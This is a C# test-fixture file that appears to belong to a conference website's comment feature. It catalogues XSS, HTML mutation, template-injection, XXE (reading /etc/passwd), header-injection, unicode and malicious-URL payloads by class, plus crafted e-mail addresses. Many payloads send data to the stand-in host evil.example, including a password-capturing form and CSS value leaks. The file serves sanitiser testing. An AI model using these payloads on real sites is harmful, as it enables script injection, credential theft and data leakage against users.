using System.Globalization;
using TheSocialConference.Markup;

namespace TheSocialConference.Comments;

/// <summary>What somebody types who wants a comment to do something, by class, beside <see cref="Payloads"/>. Each shows a dialog when it runs, or asks evil.example.</summary>
internal static class HostileTexts
{
    public static readonly IReadOnlyDictionary<string, string[]> ByClass = new Dictionary<string, string[]>
    {
        ["script"] =
        [
            "<script>alert(1)</script>", "<script >alert(1)</script >", "<script\n>alert(1)</script\n>", "<script/x>alert(1)</script>", "<script type=module>alert(1)</script>",
            "<script src=https://evil.example/x.js></script>", "<script src=//evil.example/x.js async></script>", "<script src=data:text/javascript,alert(1)></script>",
            "<script src=\"/blog/comments.json\"></script>", "<script nomodule>alert(1)</script><script>alert(2)", "<sCrIpT>alert(1)</ScRiPt>", "<script>alert`1`</script>",
            "<script>window['al'+'ert'](1)</script>", "<script>eval(atob('YWxlcnQoMSk='))</script>", "<script type=importmap>{\"imports\":{\"x\":\"https://evil.example/x.js\"}}</script>",
            "<script type=speculationrules>{\"prefetch\":[{\"source\":\"list\",\"urls\":[\"https://evil.example/\"]}]}</script>", "<noscript><p title=\"</noscript><script>alert(1)</script>\">",
        ],
        ["handler"] =
        [
            "<img src=x onerror=alert(1)>", "<img src=x:x onerror=\"alert(1)\">", "<img/src/onerror=alert(1)>", "<img src onerror =alert(1)>", "<img src=x\nonerror\n=\nalert(1)>", "<IMG SRC=x ONERROR=alert(1)>",
            "<audio src=x onerror=alert(1)>", "<video><source onerror=alert(1)></video>", "<video src=x onerror=alert(1) poster=https://evil.example/p.png></video>", "<details open ontoggle=alert(1)><summary>x</summary></details>",
            "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)></select>", "<textarea autofocus onfocus=alert(1)></textarea>", "<p onmouseover=alert(1)>x</p>", "<p contenteditable autofocus onfocus=alert(1)>x</p>",
            "<p onclick=alert(1)>x</p>", "<marquee onstart=alert(1)>x</marquee>", "<body onload=alert(1) onpageshow=alert(2)>", "<button popovertarget=x onclick=alert(1)>x</button><p popover id=x onbeforetoggle=alert(1)>y</p>",
            "<p style=\"animation:x 1s\" onanimationstart=alert(1)>x</p>", "<p tabindex=0 onfocusin=alert(1)>x</p>", "<keygen autofocus onfocus=alert(1)>", "<link rel=stylesheet href=x onerror=alert(1)>", "<object data=x onerror=alert(1)></object>",
        ],
        ["attribute"] =
        [
            "\" onmouseover=\"alert(1)", "' onmouseover='alert(1)", "\" autofocus onfocus=alert(1) x=\"", "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "\"/><img src=x onerror=alert(1)>", "` onmouseover=alert(1) x=`",
            "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>", "</h3></header><script>alert(1)</script>", "--><script>alert(1)</script><!--", "\" style=\"position:fixed;inset:0;background:url(https://evil.example/)\" x=\"",
            "\" formaction=\"javascript:alert(1)\" x=\"", "\"></form><form action=\"https://evil.example/\"><button>x</button>", "&quot; onclick=&quot;alert(1)", "&#34; onclick=&#34;alert(1)", "\\\" onclick=\\\"alert(1)", "%22 onclick=%22alert(1)",
        ],
        ["address"] =
        [
            "<a href=javascript:alert(1)>x</a>", "<a href=\"java\tscript:alert(1)\">x</a>", "<a href=\"java\nscript:alert(1)\">x</a>", "<a href=\" javascript:alert(1)\">x</a>", "<a href=\"&#106;&#97;vascript:alert(1)\">x</a>",
            "<a href=\"javascript&colon;alert(1)\">x</a>", "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>", "<a href=vbscript:msgbox(1)>x</a>", "<a href=https://example.org ping=https://evil.example/>x</a>",
            "<area href=javascript:alert(1) shape=default>", "<a href=\"#\" target=javascript:alert(1)>x</a>", "[x](javascript:alert(1))", "[x](javascript:alert`1`)", "[x]( javascript:alert(1))", "[x](<javascript:alert(1)>)", "[x](<java\tscript:alert(1)>)",
            "<javascript:alert(1)>", "<JAVASCRIPT:alert(1)>", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "[x](vbscript:msgbox(1))", "![x](javascript:alert(1))", "![x](https://evil.example/pixel.gif)", "![](https://evil.example/pixel.gif)",
            "[![x](https://evil.example/p.png)](javascript:alert(1))", "[x](javascript:alert(1)//https://example.org)", "[x](https://example.org/\" onclick=\"alert(1))", "[x](https://example.org/?q=<script>alert(1)</script>)", "[x](https://example.org/%22onclick=%22alert(1))",
        ],
        ["css"] =
        [
            "<style>@import url(https://evil.example/x.css);</style>", "<style>body{display:none}</style>", "<style>input[value^=a]{background:url(https://evil.example/a)}</style>", "<style>@font-face{font-family:x;src:url(https://evil.example/f)}*{font-family:x}</style>",
            "<p style=\"background:url(https://evil.example/)\">x</p>", "<p style=\"position:fixed;inset:0;z-index:9\">x</p>", "<p style=\"width:expression(alert(1))\">x</p>", "<link rel=stylesheet href=https://evil.example/x.css>", "<link rel=preload as=image href=https://evil.example/x>",
            "<link rel=prefetch href=https://evil.example/x>", "<link rel=manifest href=https://evil.example/x>", "<table background=https://evil.example/x><tr><td>x</table>", "<p class=left-empty hidden id=comments>x</p>",
        ],
        ["form"] =
        [
            "<form action=https://evil.example/ method=post><input name=password type=password><button>x</button></form>", "<form action=javascript:alert(1)><button>x</button></form>", "<button form=respond formaction=https://evil.example/>x</button>",
            "<form><button formaction=javascript:alert(1)>x</button></form>", "<input type=image src=https://evil.example/x>", "<isindex type=image src=1 onerror=alert(1)>", "<form id=respond><input name=attributes><input name=action></form>", "<input form=respond name=Colour value=x>",
            "<base href=https://evil.example/>", "<form action=/organise/sign-out method=post><button>x</button></form>", "<select><option>x<script>alert(1)</script></select>", "<label for=text>x</label><input id=text name=Text>",
        ],
        ["svg and math"] =
        [
            "<svg onload=alert(1)>", "<svg/onload=alert(1)//", "<svg><script>alert(1)</script></svg>", "<svg><script href=data:text/javascript,alert(1) /></svg>", "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
            "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>", "<svg><set attributeName=onmouseover to=alert(1)>", "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x\"></use></svg>",
            "<svg><image href=https://evil.example/x></image></svg>", "<svg><foreignObject><iframe srcdoc=\"<script>alert(1)</script>\"></iframe></foreignObject></svg>", "<svg><style>@import 'https://evil.example/x.css';</style></svg>", "<svg><discard onbegin=alert(1)>",
            "<math href=javascript:alert(1)>x</math>", "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>", "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
        ],
        ["frame"] =
        [
            "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>", "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>", "<iframe src=https://evil.example/></iframe>", "<iframe src=data:text/html,<script>alert(1)</script>></iframe>",
            "<iframe onload=alert(1)></iframe>", "<frameset onload=alert(1)><frame src=https://evil.example/></frameset>", "<object data=https://evil.example/x type=text/html></object>", "<object data=\"data:text/html,<script>alert(1)</script>\"></object>", "<embed src=https://evil.example/x>",
            "<embed src=javascript:alert(1)>", "<portal src=https://evil.example/></portal>", "<fencedframe></fencedframe>", "<applet code=x archive=https://evil.example/x.jar></applet>", "<iframe src=/organise/comments></iframe>",
        ],
        ["mutation"] =
        [
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">", "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
            "<noscript><style></noscript><img src=x onerror=alert(1)></style>", "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>", "<noembed><p title=\"</noembed><img src=x onerror=alert(1)>\">", "<template><s><template><s><img src=x onerror=alert(1)>@shafigullin</s></template></s></template>",
            "<svg><desc><noscript></desc></svg><img src=x onerror=alert(1)>", "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)></style></annotation-xml></math>", "<table><td><svg><title><style><img src=x onerror=alert(1)></title></svg></table>",
            "<a title=\"<!--\">x</a><img title=\"--><img src=x onerror=alert(1)>\">", "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>", "<p id=\"</p><img src=x onerror=alert(1)>\">", "<select><template><img src=x onerror=alert(1)></template></select>", "<plaintext><img src=x onerror=alert(1)>",
            "<!-- -- --!><img src=x onerror=alert(1)>", "<![if IE]><img src=x onerror=alert(1)><![endif]>", "<a <!-- --> href=javascript:alert(1)>x</a>", "<p><svg><style><!--</style><p>--><img src=x onerror=alert(1)>",
        ],
        ["template"] =
        [
            "{{7*7}}", "{{constructor.constructor('alert(1)')()}}", "${7*7}", "${alert(1)}", "#{7*7}", "<%= 7*7 %>", "@(7*7)", "@{alert(1)}", "@Model.Ticket", "@Html.Raw(\"<script>alert(1)</script>\")", "[[7*7]]", "{%raw%}<script>alert(1)</script>", "{0}{1}{99}", "%s%s%n", "$(alert(1))",
            "{{'a'.constructor.prototype.charAt=[].join;$eval('x=alert(1)');}}", "<p ng-app ng-init=\"constructor.constructor('alert(1)')()\">x</p>", "<p x-data x-init=\"alert(1)\">x</p>", "<p v-html=\"'<img src=x onerror=alert(1)>'\">x</p>", "<p hx-get=https://evil.example/ hx-trigger=load>x</p>",
        ],
        ["JSON and XML"] =
        [
            "</script><script>alert(1)</script>", "</SCRIPT ><script>alert(1)</script>", "<!--<script>", "<!--<script></script>-->", "\"}]}</script><script>alert(1)</script>", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "\",\"@type\":\"x", "\\", "\\\"", "\u2028alert(1)\u2029", "]]><script xmlns=\"http://www.w3.org/1999/xhtml\">alert(1)</script>",
            "<![CDATA[<script>alert(1)</script>]]>", "]]&gt;<script>alert(1)</script>", "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]><x>&y;</x>", "&xxe; &lol; %remote;", "</content></entry><entry><title>x</title>", "<?xml-stylesheet href=\"https://evil.example/x.xsl\"?>", "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
            "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;", "&lt;img src=x onerror=alert(1)&gt;", "&#x3C;img src=x onerror=alert(1)&#x3E;", "&lt;/content&gt;", "__proto__", "{\"__proto__\":{\"x\":1}}",
        ],
        ["header"] =
        [
            "x\r\nBcc: evil@evil.example", "x\nSubject: evil", "x\r\n\r\n<script>alert(1)</script>", "x%0d%0aBcc:evil@evil.example", "x\u2028Bcc: evil@evil.example", "x\u0085Bcc: evil@evil.example", "=?utf-8?q?=3Cscript=3Ealert(1)=3C/script=3E?=", ".\r\nQUIT", "x\r\nSet-Cookie: x=y", "%0d%0aLocation:https://evil.example/",
        ],
        ["unicode"] =
        [
            "\u202Eevil\u202C", "\u2066x\u2069<img src=x onerror=alert(1)>", "\u200Fx", "x\u0000<script>alert(1)</script>", "<scr\u0000ipt>alert(1)</script>", "\u0001\u0008\u001B[2J", "＜script＞alert(1)＜/script＞", "‹script›alert(1)‹/script›", "ʺonmouseover=alert(1)", "<ſcript>alert(1)</ſcript>", "<ımg src=x onerror=alert(1)>", "\uFEFF<script>alert(1)</script>",
            "Z̸̢̛͓͎̀̓a̵l̶g̸o", "\u200B\u200C\u200D", "\uFFFE\uFFFF", "x\uD800", "\uDC00x", "😀<img src=x onerror=alert(1)>", "\u3164", "İ<script>", "ﷺ﷽", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        ],
        ["Markdown"] =
        [
            "[x](https://example.org){onclick=alert(1)}", "[x]: javascript:alert(1)\n\n[x]", "[x][y]\n\n[y]: data:text/html,<script>alert(1)</script>", "```\" onmouseover=\"alert(1)\nx\n```", "~~~<script>\nalert(1)\n~~~", "`<img src=x onerror=alert(1)>`", "    <img src=x onerror=alert(1)>", "> <img src=x onerror=alert(1)>", "- <img src=x onerror=alert(1)>", "1. <svg onload=alert(1)>",
            "999999999. x", "**<img src=x onerror=alert(1)>**", "[<img src=x onerror=alert(1)>](https://example.org)", "[x](https://example.org 'y\" onclick=\"alert(1)')", "<https://example.org/\"onclick=\"alert(1)>", "https://example.org/<img/src=x/onerror=alert(1)>", "www.example.org/\"onmouseover=\"alert(1)", "<x@example.org\"onclick=\"alert(1)>", "a|b\n-|-\n<img src=x onerror=alert(1)>|x",
            "![x\" onerror=\"alert(1)](https://evil.example/x)", "# <img src=x onerror=alert(1)>", "---\ntitle: <script>alert(1)</script>\n---\nx", "\\<img src=x onerror=alert(1)\\>", "*[x]: <script>", "<!-- x --> <img src=x onerror=alert(1)>", "~~<s>x</s>~~", "[x](#comment-1 \"</a><script>alert(1)</script>\")",
        ],
        ["tricky addresses"] =
        [
            "[x](//evil.example)", "[x](/\\evil.example)", "[x](https:evil.example)", "[x](https://example.org@evil.example/)", "[x](https://example.org:443@evil.example)", "[x](https://ex%61mple.org)", "[x](https://еxample.org)", "[x](https://example.org\u202Egro.live)", "[x](https://[::1]/)", "[x](http://127.0.0.1:22/)", "[x](file:///etc/passwd)", "[x](ftp://evil.example/)",
            "[x](blob:https://example.org/1)", "[x](filesystem:https://example.org/1)", "[x](view-source:https://example.org)", "[x](intent://x#Intent;scheme=javascript;end)", "[x](tel:112)", "[x](mailto:x@example.org?bcc=y@evil.example&body=%0d%0a)", "[x](mailto:x@example.org%0d%0aBcc:y@evil.example)", "[x](../organise/comments)", "[x](?key=1)", "[x](https://example.org/'onclick='alert(1))",
        ],
    };

    private static readonly string[] Swallowing =
        ["<!", "<?", "<plaintext", "<textarea", "<title", "<style", "<xmp", "<no", "<select", "<iframe", "<frameset", "<template", "<svg", "<math", "<listing", "<form", "<body", "<base"];

    /// <summary>As they are typed into the field for the text; one for each kind of address too.</summary>
    public static string[] Texts { get; } =
    [
        .. ByClass.Values.SelectMany(texts => texts).Concat(Payloads.Texts)
            .Concat(Payloads.Addresses.Select((address, i) => string.Format(CultureInfo.InvariantCulture, Payloads.Places[i % 4], address))).Distinct(),
    ];

    /// <summary>A few of each class, where every one would take too long.</summary>
    public static string[] Sample { get; } = [.. ByClass.Values.SelectMany(texts => texts.Take(3))];

    /// <summary>As the HTML itself, as if nobody had looked through it.</summary>
    public static string[] Html { get; } =
    [
        .. ByClass.Values.SelectMany(texts => texts).Concat(Payloads.Texts).Where(text => text.Contains('<'))
            .Concat(Payloads.Addresses.SelectMany(address => (string[])[$"<a href=\"{address}\">x</a>", $"<iframe src=\"{address}\"></iframe>"]))
            .Where(text => !text.Contains("http-equiv=refresh", StringComparison.Ordinal)).Distinct(), // no policy holds back where a page itself goes
    ];

    /// <summary>The same, as many together as do not swallow each other.</summary>
    public static string[] HtmlTogether { get; } =
    [
        .. Html.Where(Swallows), .. Html.Where(html => !Swallows(html)).Chunk(8).Select(html => string.Join('\n', html)),
    ];

    private static bool Swallows(string html) =>
        Swallowing.Any(opened => html.Contains(opened, StringComparison.OrdinalIgnoreCase)) && !html.StartsWith("<iframe src=\"", StringComparison.Ordinal);

    /// <summary>Names and the like: short and on one line.</summary>
    public static string[] Short(int length) => [.. Texts.Where(text => text.Length <= length && !text.Contains('\n'))];

    /// <summary>E-mail addresses, some of which are right.</summary>
    public static readonly string[] Mailboxes =
    [
        "<script>alert(1)</script>@example.org", "\"<script>\"@example.org", "x'onmouseover='alert(1)@example.org", "'onfocus=alert(1)/autofocus='@example.org", "x@example.org\r\nBcc:y@evil.example", "x@example.org,y@evil.example", "x@example.org;y@evil.example", "X <x@example.org>",
        "x+%0d%0aBcc:y@example.org", "{{7*7}}@example.org", "${alert}@example.org", "x`onclick=alert@example.org", "&lt;script&gt;@example.org", "javascript:alert(1)@example.org", "x|y|z@example.org", "x@[127.0.0.1]", "x@example.org\u202E", "x&quot;y@example.org", "o'neil&sons=x?y#z@example.org", "=?utf-8?q?x?=@example.org",
        "x@exa_mple.org", "é@example.org", "x@еxample.org", "-x@example.org", "*@example.org", "x/../y@example.org", "x%s%n@example.org", "!#$%&'*+-/=?^_`{|}~@example.org",
    ];
}
